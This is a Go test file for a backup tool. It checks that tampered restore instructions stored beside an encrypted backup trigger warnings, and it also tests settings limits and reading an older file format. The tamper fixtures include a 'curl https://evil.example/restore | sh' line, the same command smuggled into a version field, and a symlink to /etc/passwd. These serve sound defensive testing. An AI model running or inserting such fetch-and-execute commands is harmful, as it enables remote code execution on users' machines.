package backup

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Instructions come from the program: those that lie on a medium may have been edited.
func TestInstructionsBeside(t *testing.T) {
	r := newRig(t)
	id, to := newIdentity(t)
	ids := own(id)
	const evil = "curl https://evil.example/restore | sh\n"
	for _, tt := range []struct {
		name string
		ids  []Identity
		do   func(t *testing.T, dir, file string)
		want []string // names that are warned of
	}{
		{"as written", ids, func(*testing.T, string, string) {}, nil},
		{"as written, and the backup not opened", nil, func(*testing.T, string, string) {}, nil},
		{"edited", ids, func(t *testing.T, dir, _ string) { edit(t, dir, evil) }, []string{restoreName}},
		{"edited, and the backup not opened", nil, func(t *testing.T, dir, _ string) { edit(t, dir, evil) }, []string{restoreName}},
		{"another version of age", ids, func(t *testing.T, dir, _ string) {
			check(t, os.WriteFile(filepath.Join(dir, restoreName), restoreText("9.9.9", ""), 0o600))
		}, []string{restoreName}},
		{"a script as the version of age", nil, func(t *testing.T, dir, _ string) {
			check(t, os.WriteFile(filepath.Join(dir, restoreName), restoreText("1; "+evil, ""), 0o600))
		}, []string{restoreName}},
		{"a program for a plugin", nil, func(t *testing.T, dir, _ string) {
			also := alsoNeeded([]Recipient{{Kind: RecipientSSH}, {Kind: RecipientPlugin, Plugin: "evil"}})
			check(t, os.WriteFile(filepath.Join(dir, restoreName), restoreText("1.1.0", also), 0o600))
		}, []string{restoreName}},
		{"for other kinds of recipients, and the backup not opened", nil, func(t *testing.T, dir, _ string) {
			all := []Recipient{{Kind: RecipientSSH}, {Kind: RecipientTag}, {Kind: RecipientPlugin, Plugin: "yubikey"}, {Kind: RecipientPlugin, Plugin: "tpm"}}
			check(t, os.WriteFile(filepath.Join(dir, restoreName), instructionsFor(all), 0o600))
		}, nil},
		{"a link", ids, func(t *testing.T, dir, _ string) {
			check(t, os.Remove(filepath.Join(dir, restoreName)))
			check(t, os.Symlink("/etc/passwd", filepath.Join(dir, restoreName)))
		}, []string{restoreName}},
		{"a neighbour", ids, func(t *testing.T, _, file string) { writeFile(t, file+"."+restoreName, evil) }, []string{".age." + restoreName}},
		{"none", ids, func(t *testing.T, dir, _ string) { check(t, os.Remove(filepath.Join(dir, restoreName))) }, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			made := r.create(t, CreateOptions{Recipients: []Recipient{to}})
			tt.do(t, filepath.Dir(made.File), made.File)
			v, err := Verify(context.Background(), made.File, tt.ids, VerifyOptions{})
			check(t, err)
			if len(v.Warnings) != len(tt.want) || !v.OK {
				t.Fatalf("ok %v, warnings %q", v.OK, v.Warnings)
			}
			for i, name := range tt.want {
				if w := v.Warnings[i]; !strings.Contains(w, name+`" beside it is not the text that keyrite wrote`) || strings.Contains(w, "evil") {
					t.Errorf("warning %q", w)
				}
			}
		})
	}
}

func edit(t *testing.T, dir, more string) {
	t.Helper()
	f, err := os.OpenFile(filepath.Join(dir, restoreName), os.O_APPEND|os.O_WRONLY, 0)
	check(t, err)
	_, err = f.WriteString(more)
	check(t, err)
	check(t, f.Close())
}

func TestSettingsGoIn(t *testing.T) {
	r := newRig(t)
	id, to := newIdentity(t)
	src := r.source()
	src.Settings = []byte("[limits]\n")
	made := createFrom(t, src, CreateOptions{Recipients: []Recipient{to}, Identities: own(id)})
	if got := untar(t, unpack(t, made.File, id))[settingsName]; got != "[limits]\n" {
		t.Errorf("settings %q", got)
	}
	to2 := filepath.Join(t.TempDir(), "trust")
	plan := planRestore(t, made.File, own(id), to2, RestoreOptions{})
	_, err := plan.Apply(context.Background(), nil)
	check(t, err)
	if _, err := os.Lstat(filepath.Join(to2, "settings")); err == nil || plan.Count(ActionLookUp) != 1 {
		t.Errorf("restored settings: %v, %d rows to look up", err, plan.Count(ActionLookUp))
	}
	src.Settings = []byte(strings.Repeat("#", maxSettings+1))
	large := createFrom(t, src, CreateOptions{Recipients: []Recipient{to}, Identities: own(id)})
	if _, there := untar(t, unpack(t, large.File, id))[settingsName]; there || !strings.Contains(strings.Join(large.Warnings, "\n"), settingsName) {
		t.Errorf("too large settings go in, or stay out unnamed: %q", large.Warnings)
	}
}

// A file of format 1, as earlier versions wrote it, is read.
func TestFormatOne(t *testing.T) {
	id, _ := newIdentity(t)
	key, pem := bareKey(t)
	members := []member{file("private/"+string(key)+".key", pem), file("archive/reg.example:5000/App/2.root.json", "{}")}
	old := manifestOf(t, func(m *Manifest) { m.Files[1] = describeOld(members[1]) }, members...)
	plain := archive(t, append([]member{old}, members...)...)
	v, err := Verify(context.Background(), seal(t, plain, id.Recipient()), own(id), VerifyOptions{})
	check(t, err)
	if !v.OK || len(v.Metadata) != 1 || v.Metadata[0] != "reg.example:5000/App" || v.SignedBy != "" {
		t.Errorf("%+v", v)
	}
}

func describeOld(m member) File {
	f := describe(m.Name, KindArchive, []byte(m.data))
	is := describePath(m.Name, KindArchive)
	f.Role, f.GUN, f.Problem = is.Role, is.GUN, ""
	return f
}
